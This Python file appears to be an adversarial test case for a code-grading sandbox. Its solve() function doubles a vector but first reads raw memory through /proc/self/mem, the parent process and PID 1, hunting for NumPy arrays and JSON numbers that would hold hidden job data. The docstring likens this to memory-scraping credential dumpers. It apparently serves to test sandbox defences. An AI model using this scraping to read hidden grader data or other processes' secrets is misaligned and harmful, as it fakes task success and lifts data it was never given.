"""expect: accepted | runtime_error | forbidden_call
Read raw memory through /proc/self/mem (and the parent's, and PID 1's) for .npy headers and job JSON.

A child forked from a supervisor that once held the whole job inherits those pages:
the objects may be gone, the bytes are not. Every writable mapping is scanned for the
NumPy magic (then the array behind the header is decoded) and for JSON holding numbers.
Seen in the wild: reading /proc/<pid>/mem of a same-uid process is how memory-scraping
malware lifts secrets (e.g. the "mimipenguin" credential dumper on Linux).
"""

import ast
import os
import re

import numpy as np

SEEN = set()
MAGIC = b"\x93NUMPY"
FLOAT_LIST = re.compile(rb"\[(-?\d+\.\d+(?:e-?\d+)?, ){2,}-?\d+\.\d+(?:e-?\d+)?\]")


DONE = []


def show(label, value):
    try:
        flat = np.asarray(value, dtype=float).ravel()
    except (TypeError, ValueError):
        return
    if 0 < flat.size <= 4096 and flat[:8].tobytes() not in SEEN:
        SEEN.add(flat[:8].tobytes())
        print(label, flat[:8].tolist())


def decode_npy(chunk, at):
    try:
        header_len = int.from_bytes(chunk[at + 8 : at + 10], "little")
        header = ast.literal_eval(chunk[at + 10 : at + 10 + header_len].decode("latin-1"))
        if header["descr"] != "<f8" or header["fortran_order"]:
            return
        count = int(np.prod(header["shape"])) if header["shape"] else 1
        start = at + 10 + header_len
        if 0 < count <= 4096 and start + 8 * count <= len(chunk):
            show("mem npy", np.frombuffer(chunk[start : start + 8 * count], dtype="<f8"))
    except Exception:
        pass


def scan(pid, budget=48 << 20):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError as exc:
        print(f"pid {pid}: {type(exc).__name__}")
        return
    for line in maps:
        fields = line.split()
        if "rw" not in fields[1] or (len(fields) > 5 and fields[5].startswith("/")):
            continue
        start, end = (int(v, 16) for v in fields[0].split("-"))
        if end - start > min(budget, 8 << 20):
            continue
        budget -= end - start
        try:
            mem.seek(start)
            chunk = mem.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        at = chunk.find(MAGIC)
        while at >= 0:
            decode_npy(chunk, at)
            at = chunk.find(MAGIC, at + 1)
        for match in FLOAT_LIST.finditer(chunk):
            show("mem json", [float(v) for v in match.group(0)[1:-1].split(b", ")])


def solve(x):
    try:
        if DONE:
            raise StopIteration  # the search runs once per process: in the first (visible) case
        DONE.append(True)
        for pid in dict.fromkeys(["self", os.getppid(), 1]):
            scan(pid)
    except StopIteration:
        pass
    except Exception as exc:
        print("probe failed:", type(exc).__name__)
    if x.ndim != 1:
        raise ValueError("not a vector")
    return x * 2
